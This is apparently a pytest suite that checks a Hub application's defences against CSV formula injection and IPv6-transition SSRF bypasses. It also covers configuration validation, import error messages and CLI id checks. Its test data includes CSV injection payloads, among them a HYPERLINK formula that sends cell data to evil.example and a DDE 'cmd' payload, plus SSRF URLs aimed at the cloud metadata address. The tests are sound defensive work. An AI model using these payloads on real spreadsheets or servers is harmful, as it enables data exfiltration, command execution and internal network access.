"""Hostile input found by the security probe of the running Hub (issue "Hostile input"): CSV formula injection,
6to4 and other IPv6 transition addresses past the SSRF guard, fail-open HUB_ENV, the sandbox in production,
import errors without a line, internal exception names in CLI errors, mixed-type page tables."""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from db.models import Connection, Integration, Organization, Tier, Upvote, User
from services.build import notifications
from services.cli import main
from services.core import audit, queries
from services.core.config import load_settings
from services.core.errors import HubError
from services.runtime.netguard import UnsafeUrl, check_url

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def run(capsys, *argv: str) -> tuple[int, str, str]:  # type: ignore[no-untyped-def]
    try:
        code = main(list(argv))
    except SystemExit as exc:  # argparse exits on usage errors
        code = exc.code if isinstance(exc.code, int) else 1
    out, err = capsys.readouterr()
    return code, out, err


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: beginning with = + - @, a tab or a CR (plain numbers aside)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9.,]+", cell)]


# --- 2. CSV injection -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE)
def test_csv_helper_neutralises_formula_leading_cells(value):
    from services.core.csv_export import frame_to_csv, records_to_csv

    frame = pd.DataFrame({"name": [value, "plain", None], "n": [-5, 2, 3]})
    text = frame_to_csv(frame)
    assert formula_cells(text) == [] and "-5" in text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "n"] and rows[1][0] == "'" + value.replace("|", "\\|") and rows[2] == ["plain", "2"]
    assert rows[3] == ["", "3"]
    text = records_to_csv([{"a": value, "b": 1.5}], ["a", "b"])
    assert formula_cells(text) == []


def test_notify_list_csv_neutralises_upvoter_names_and_emails(session, capsys):
    tier = session.scalar(select(Tier).where(Tier.slug == "pro"))
    org = Organization(name="@SUM(A1)", tier_id=tier.id)
    session.add(org)
    session.flush()
    hubspot = session.scalar(select(Integration).where(Integration.slug == "hubspot"))
    users = [User(email=f"u{k}@x.co" if k else '=HYPERLINK("http://evil.example")@x.co', name=name,
                  organization_id=org.id, tier_id=tier.id) for k, name in enumerate(HOSTILE)]
    session.add_all(users)
    session.flush()
    session.add_all([Upvote(user_id=u.id, integration_id=hubspot.id) for u in users])
    session.flush()
    assert notifications.enqueue_for_upvoters(session, hubspot) == len(HOSTILE)
    session.commit()
    code, out, err = run(capsys, "notify", "list", "--format", "csv")
    assert code == 0, err
    assert len(list(csv.reader(io.StringIO(out)))) == len(HOSTILE) + 1
    assert formula_cells(out) == []
    assert "'=HYPERLINK" in out


def test_rank_csv_neutralises_names(session, capsys):
    hubspot = session.scalar(select(Integration).where(Integration.slug == "hubspot"))
    hubspot.name, hubspot.category = HOSTILE[0], HOSTILE[1]
    session.commit()
    code, out, err = run(capsys, "rank", "--format", "csv")
    assert code == 0, err
    assert formula_cells(out) == [] and "'=HYPERLINK" in out


def test_success_criteria_csv_neutralises_names(monkeypatch):
    from services.success import report

    monkeypatch.setattr(report, "figures_frame", lambda _: pd.DataFrame(
        {"section": ["forecast build"] * len(HOSTILE), "figure": HOSTILE, "value": ["2026-05-01"] * len(HOSTILE)}))
    assert formula_cells(report.figures_csv(None)) == []  # type: ignore[arg-type]


def test_no_csv_is_written_around_the_neutralising_helper():
    """Every CSV the Hub writes for people goes through services/core/csv_export.py."""
    allowed = {ROOT / "services/core/csv_export.py",
               ROOT / "services/bench/ranking.py"}   # the benchmark's own import input, read back by the import
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [str(p.relative_to(ROOT)) for folder in ("services", "pages") for p in (ROOT / folder).rglob("*.py")
                 if p not in allowed and pattern.search(p.read_text())]
    assert offenders == []


@pytest.mark.parametrize("email", ['=HYPERLINK("http://evil.example")@x.co', "a,b@x.co", "a@x..co", "a@-x.co",
                                   "a b@x.co", "a@x.c", ".a@x.co", "a..b@x.co", "a@x.co\n", "a@" + "x" * 64 + ".co",
                                   "x" * 65 + "@x.co", "a\x00@x.co"])
def test_email_check_refuses_what_is_no_address(email):
    from services.core.emails import is_email

    assert not is_email(email)


@pytest.mark.parametrize("email", ["ana@acme.example", "first.last+tag@sub.example.co.uk", "o'neil@x.io",
                                   "x_y-z@a-b.example"])
def test_email_check_accepts_addresses(email):
    from services.core.emails import is_email

    assert is_email(email)


def test_upvote_import_refuses_a_formula_email(session):
    from services.demand.upvote_import import ImportRejected, import_upvotes

    text = 'integration,user_email,organization,tier\nhubspot,"=HYPERLINK(""http://evil.example"")@x.co",A,free\n'
    with pytest.raises(ImportRejected, match="line 2: user_email"):
        import_upvotes(session, text, actor="pm")


# --- 3. SSRF guard: IPv6 transition forms -----------------------------------------------------------------------

def _no_dns(host: str) -> list[str]:
    raise UnsafeUrl(f"{host}: the host name does not resolve")


def _six_to_four(v4: ipaddress.IPv4Address) -> ipaddress.IPv6Address:
    return ipaddress.IPv6Address((0x2002 << 112) | (int(v4) << 80))


def _teredo(v4: ipaddress.IPv4Address, server: str = "65.54.227.120") -> ipaddress.IPv6Address:
    return ipaddress.IPv6Address((0x20010000 << 96) | (int(ipaddress.IPv4Address(server)) << 64)
                                 | (0x8000 << 48) | (0xFFFF << 32) | (int(v4) ^ 0xFFFFFFFF))


def _isatap(v4: ipaddress.IPv4Address, prefix: str = "2606:4700:10::") -> ipaddress.IPv6Address:
    return ipaddress.IPv6Address(int(ipaddress.IPv6Address(prefix)) | (0x5EFE << 32) | int(v4))


FORMS = {
    "6to4": _six_to_four,
    "ipv4-mapped": lambda v4: ipaddress.IPv6Address((0xFFFF << 32) | int(v4)),
    "ipv4-compatible": lambda v4: ipaddress.IPv6Address(int(v4)),
    "nat64": lambda v4: ipaddress.IPv6Address((0x64FF9B << 96) | int(v4)),
    "teredo": _teredo,
    "isatap": _isatap,
}


@pytest.mark.parametrize("url", [
    "https://[2002:a9fe:a9fe::]/",                  # 6to4 of 169.254.169.254
    "https://[2002:a00:1::]/",                      # 6to4 of 10.0.0.1
    "https://[2002:7f00:1::]/",                     # 6to4 of 127.0.0.1
    "https://[::a9fe:a9fe]/",                       # IPv4-compatible
    "https://[::ffff:a9fe:a9fe]/",                  # IPv4-mapped
    "https://[64:ff9b::a9fe:a9fe]/",                # NAT64 well-known prefix
    "https://[64:ff9b:1::a9fe:a9fe]/",              # NAT64 local-use prefix
    "https://[2001:0:4136:e378:8000:63bf:f5ff:fffe]/",   # Teredo, client 10.0.0.1 (XOR-ed)
    "https://[2606:4700:10::5efe:a00:1]/",          # ISATAP on a global prefix, 10.0.0.1
    "https://[2606:4700:10::200:5efe:a9fe:a9fe]/",  # ISATAP (u/l bit set), 169.254.169.254
])
def test_transition_addresses_embedding_private_ipv4_are_refused(url):
    with pytest.raises(UnsafeUrl, match="private"):
        check_url(url, sandbox_enabled=True, resolver=_no_dns)


def test_a_name_resolving_to_6to4_of_the_metadata_address_is_refused():
    with pytest.raises(UnsafeUrl, match="2002:a9fe:a9fe::"):
        check_url("https://api.example.com", sandbox_enabled=False, resolver=lambda host: ["2002:a9fe:a9fe::"])


def test_transition_addresses_embedding_public_ipv4_stay_allowed():
    public = ipaddress.IPv4Address("93.184.216.34")
    for name in ("6to4", "ipv4-mapped", "nat64", "teredo", "isatap"):
        assert check_url(f"https://[{FORMS[name](public)}]/", sandbox_enabled=False, resolver=_no_dns), name


@given(st.integers(0, 2**32 - 1), st.sampled_from(sorted(FORMS)))
def test_a_transition_address_is_public_only_if_the_ipv4_it_embeds_is(n, form):
    v4 = ipaddress.IPv4Address(n)
    v6 = FORMS[form](v4)
    if form == "ipv4-compatible" and n <= 1:
        return                                          # :: and ::1 are the unspecified and loopback addresses
    v4_ok = _allowed(str(v4))
    v6_ok = _allowed(f"[{v6}]")
    if not v4_ok:
        assert not v6_ok, f"{v6} embeds {v4}"
    elif form != "ipv4-compatible":                      # deprecated (RFC 4291): refused whatever it embeds
        assert v6_ok, f"{v6} embeds the public {v4}"


def _allowed(host: str) -> bool:
    try:
        check_url(f"https://{host}/", sandbox_enabled=False, resolver=_no_dns)
    except UnsafeUrl:
        return False
    return True


def test_connection_account_url_on_6to4_metadata_is_refused_before_any_call(session, world, monkeypatch):
    from services.connect import connections as conns
    from services.connect.outbound import Outbound
    from services.runtime import http

    def no_calls(request: http.Request) -> http.Response:
        raise AssertionError(f"the Hub must not call {request.url}")

    monkeypatch.setenv("HUB_SANDBOX", "0")
    out = Outbound(load_settings(), transport=http.MockTransport(no_calls), resolver=_no_dns)
    for field, value, base in (("account_url", "https://[2002:a9fe:a9fe::]/", None),
                               ("api_key", "fake-key-00000000", "https://[2002:a00:1::]/")):
        values = {"api_key": "fake-key-00000000", field: value}
        with pytest.raises(UnsafeUrl):
            conns.add_connection(session, actor=world.staff_email, organization_id=world.org_id,
                                 slug="activecampaign" if base is None else "hubspot", auth_type="api_key",
                                 values=values, base_url=base, out=out)
    assert session.scalars(select(Connection)).all() == []


@pytest.mark.parametrize("target", ["https://[2002:a9fe:a9fe::]/hook", "https://[2002:a00:1::]/hook"])
def test_zapier_target_url_on_6to4_of_a_private_address_is_refused(connect, session, creds_env, monkeypatch,
                                                                     target):
    from services.core.errors import InvalidInput
    from services.providers.zapier import rest_hooks as zapier
    from services.runtime.netguard import UnsafeUrl as Unsafe

    monkeypatch.setenv("HUB_SANDBOX", "0")
    conn = session.get(Connection, connect("zapier"))
    with pytest.raises((InvalidInput, Unsafe), match="target_url"):
        zapier.subscribe(session, conn, event=next(iter(zapier.events())), target_url=target)


# --- 5, 6. HUB_ENV and the sandbox in production ---------------------------------------------------------------

@pytest.mark.parametrize("env", ["prod", "live", "", "test", "dev"])
def test_unknown_hub_env_is_refused(monkeypatch, env):
    from services.core.config import ConfigError

    monkeypatch.setenv("HUB_ENV", env)
    with pytest.raises(ConfigError, match="HUB_ENV"):
        load_settings()


@pytest.mark.parametrize("env, expected", [("development", "development"), ("production", "production"),
                                           (" PRODUCTION", "production"), (None, "development")])
def test_known_hub_env_values(monkeypatch, env, expected):
    monkeypatch.delenv("HUB_SANDBOX", raising=False)
    if env is None:
        monkeypatch.delenv("HUB_ENV", raising=False)
    else:
        monkeypatch.setenv("HUB_ENV", env)
    assert load_settings().env == expected


@pytest.mark.parametrize("sandbox", ["1", "true", "yes"])
def test_sandbox_in_production_is_refused(monkeypatch, sandbox):
    from services.core.config import ConfigError

    monkeypatch.setenv("HUB_ENV", "production")
    monkeypatch.setenv("HUB_SANDBOX", sandbox)
    with pytest.raises(ConfigError, match="HUB_SANDBOX"):
        load_settings()


@pytest.mark.parametrize("env", [{"HUB_ENV": "prod"}, {"HUB_ENV": "production", "HUB_SANDBOX": "1",
                                                       "HUB_ENCRYPTION_KEYS": "x"}])
def test_cli_and_server_refuse_to_start_with_one_line(db_url, capsys, monkeypatch, env):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    code, out, err = run(capsys, "rank", "--top", "1")
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1, err
    assert "HUB_" in err and "Traceback" not in err and "ConfigError" not in err
    server = subprocess.run([sys.executable, "app.py"], cwd=ROOT, capture_output=True, text=True, timeout=120,
                            env={"PATH": "/usr/bin:/bin", "HOME": str(ROOT), **env})
    assert server.returncode != 0 and "Traceback" not in server.stderr, server.stderr
    assert server.stderr.strip().startswith("layers-hub: HUB_") and len(server.stderr.strip().splitlines()) == 1


# --- 8. import errors with line and column ------------------------------------------------------------------

HEADER = b"integration,user_email,user_name,organization,tier,created_at,comment\n"
GOOD_ROW = b"hubspot,ana@acme.example,Ana,Acme,agency,2026-03-02T10:00:00Z,\n"


def _counts(session) -> tuple[int, int, int]:  # type: ignore[no-untyped-def]
    session.expire_all()
    return tuple(session.scalar(select(func.count()).select_from(m)) for m in (Upvote, User, Organization))


@pytest.mark.parametrize("bad, where", [
    (b"pipedrive,cy@beta.example,Cy \xff,Beta,free,,\n", r"line 3: column 30: byte 0xff is not UTF-8"),
    (b"pipedrive,cy@beta.example,Cy,Beta,free,," + b"x" * 131_073 + b"\n", r"line 3: column 7 \(comment\).*131,072"),
    (b'pipedrive,cy@beta.example,Cy,Beta,free,,"long\n' + b"y" * 131_073 + b'"\n', r"line 4: column 7 \(comment\)"),
    (b"pipedrive,cy@beta.example,Cy\x00,Beta,free,,\n", r"line 3: column 3 \(user_name\).*NUL"),
    (b"pipedrive,cy@beta.example,Cy,Beta,free,,hello \x00 there\n", r"line 3: column 7 \(comment\).*NUL"),
])
@pytest.mark.parametrize("skip_invalid", [False, True])
def test_upvote_import_reports_line_and_column_and_writes_nothing(session, bad, where, skip_invalid):
    from services.demand.upvote_import import ImportRejected, import_upvotes

    before = _counts(session)
    data = HEADER + GOOD_ROW + bad + GOOD_ROW.replace(b"ana@", b"zed@")
    if skip_invalid and b"\x00" in bad:    # a row-level problem: that row is skipped, the others imported
        report = import_upvotes(session, data, actor="pm", skip_invalid=True)
        assert [str(e) for e in report.skipped] and re.search(where, str(report.skipped[0]))
        assert report.imported == 2
        return
    with pytest.raises(ImportRejected, match=where):
        import_upvotes(session, data, actor="pm", skip_invalid=skip_invalid)
    session.commit()
    assert _counts(session) == before


def test_upvote_import_cli_reports_a_bad_byte_by_line(session, capsys, tmp_path):
    path = tmp_path / "upvotes.csv"
    path.write_bytes(HEADER + GOOD_ROW + b"pipedrive,cy@beta.example,Cy \xff,Beta,free,,\n")
    code, out, err = run(capsys, "import-upvotes", str(path))
    assert code == 2 and "line 3: column 30" in err and "UnicodeDecodeError" not in err
    assert _counts(session)[0] == 0


def test_connections_import_reports_bad_bytes_and_nul_by_line(session, world, monkeypatch, capsys, tmp_path):
    good = json.dumps({"organization": world.org_name, "service": "activecampaign", "sandbox": True,
                       "auth": {"type": "api_key", "api_key": "not-checked-key-0001"}}).encode()
    nul_escape = json.dumps({"organization": world.org_name + "\x00", "service": "activecampaign",
                             "auth": {"type": "api_key", "api_key": "secret-with-nul-0001"}}).encode()
    nul_config = json.dumps({"organization": world.org_name, "service": "activecampaign", "sandbox": True,
                             "config": {"account_url": "https://x.example/\x00"},
                             "auth": {"type": "api_key", "api_key": "secret-with-nul-0002"}}).encode()
    path = tmp_path / "connections.jsonl"
    path.write_bytes(b"\n".join([good, good.replace(b"not-checked", b"bad \xfe byte"), nul_escape, nul_config,
                                 b'{"organization": "A\x00"}', good]) + b"\n")
    code, out, err = run(capsys, "connections", "import", "--no-verify", str(path))
    assert code == 2, err
    assert re.search(r"line 2: column \d+: .*0xfe.*UTF-8", err)
    assert "line 3: organization: contains a NUL character" in err
    assert "line 4: config.account_url: contains a NUL character" in err
    assert re.search(r"line 5: .*column", err)
    assert "line 1:" not in err and "line 6:" not in err
    assert "secret-with-nul" not in err and "UnicodeDecodeError" not in err
    assert session.scalars(select(Connection)).all() == []


# --- 9. ids at the CLI edge ------------------------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["connections", "delete", str(2**64)],
    ["run", "activecampaign", "sync_contact", "--connection", str(2**63)],
    ["webhooks", "replay", str(2**64)],
    ["webhooks", "events", "--connection", str(2**64)],
    ["webhooks", "events", "--connection", str(2**31)],           # past PostgreSQL's integer
    ["webhooks", "failures", "--connection", "-1"],
    ["webhooks", "deliveries", "--limit", str(2**64)],
    ["webhooks", "events", "--limit", "-3"],
    ["webhooks", "subscribe", str(2**64), "form_submitted"],
    ["webhooks", "unsubscribe", "0", "form_submitted", "--yes"],
    ["connections", "delete", "1e3"],
    ["notify", "send", "--dry-run", "--limit", str(2**64)],
    ["rank", "--top", str(2**70)],
    ["webhooks", "prune", "--dry-run", "--older-than", "1000000"],     # past year 1: OverflowError
    ["webhooks", "prune", "--dry-run", "--rejections-older-than", "-1"],
])
def test_out_of_range_ids_and_counts_are_refused_at_the_edge(db_url, capsys, argv):
    code, out, err = run(capsys, *argv)
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert "Error:" not in err and "Traceback" not in err and "argument" in err


def test_the_largest_id_is_just_not_found(db_url, capsys):
    from db.base import MAX_ID

    code, _, err = run(capsys, "connections", "delete", str(MAX_ID))
    assert code == 2 and "not found" in err and "Error" not in err
    for org in (str(2**64), "\u00b2"):                     # an organization id past any database's, a digit-like
        code, _, err = run(capsys, "connections", "list", "--org", org)
        assert code == 2 and "not found" in err and "Error" not in err, err


def test_every_id_argument_uses_the_database_id_type():
    from services.cli import build_parser
    from services.commands.common import db_id

    def walk(parser):  # type: ignore[no-untyped-def]
        for action in parser._actions:
            if action.choices and hasattr(action, "_name_parser_map"):
                for sub in set(action.choices.values()):
                    yield from walk(sub)
            elif (action.dest == "id" or action.dest.endswith("_id") or action.dest == "connection"
                  or (action.metavar or "") in ("ID", "CONNECTION")) and action.dest != "app_id":
                yield parser.prog, action

    ids = list(walk(build_parser()))
    assert len(ids) >= 6
    assert [(prog, a.dest) for prog, a in ids if a.type is not db_id] == []


# --- 10. page tables Arrow can convert ----------------------------------------------------------------------------

def test_audit_frame_converts_to_arrow(session):
    audit.record(session, actor="a@x.co", action="x.changed", entity_type="connection", entity_id=1,
                 before={"status": "active", "n": 1}, after={"status": "revoked", "nested": {"k": [1, "2"]}})
    audit.record(session, actor="a@x.co", action="x.noted", entity_type="database", entity_id=None,
                 before=None, after={"note": "plain"})
    entry = audit.record(session, actor="a@x.co", action="x.legacy", entity_type="database", entity_id="db",
                         before=None, after=None)
    session.flush()
    entry.before, entry.after = "a plain string", ["a", "list"]       # what older rows may hold in the JSON columns
    session.commit()
    frame = queries.audit_frame(session)
    pa.Table.from_pandas(frame)
    assert frame["after"].map(lambda v: v is None or isinstance(v, str)).all()
    assert json.loads(frame.loc[frame["action"] == "x.changed", "after"].iloc[0])["nested"] == {"k": [1, "2"]}


def test_connections_frame_converts_to_arrow():
    from services.connect.connections import ConnectionView, connections_frame

    now = datetime.now(UTC)
    views = [ConnectionView(1, 1, "Acme", "hubspot", "HubSpot", "oauth2", "active", True, "a@x.co", now, now, now,
                            None, None, "••••abcd", None, None, {}, 0),
             ConnectionView(2, 1, "Acme", "calendly", "Calendly", "webhook", "error", False, None, now, None, None,
                            now, "HTTP 401", None, None, "label", {"k": "v"}, 2)]
    frame = connections_frame(views)
    pa.Table.from_pandas(frame)
    assert list(frame["signing secrets"]) == [0, 2]
    assert list(frame["integration"]) == ["HubSpot · SANDBOX", "Calendly"]
    assert pa.Table.from_pandas(connections_frame([])).num_rows == 0


def test_connection_and_audit_pages_build_their_tables_service_side():
    assert "connections_frame(" in (ROOT / "pages/connections.py").read_text()
    assert "pd.DataFrame(" not in (ROOT / "pages/connections.py").read_text()


def test_config_error_is_typed():
    from services.core.config import ConfigError

    assert issubclass(ConfigError, HubError)
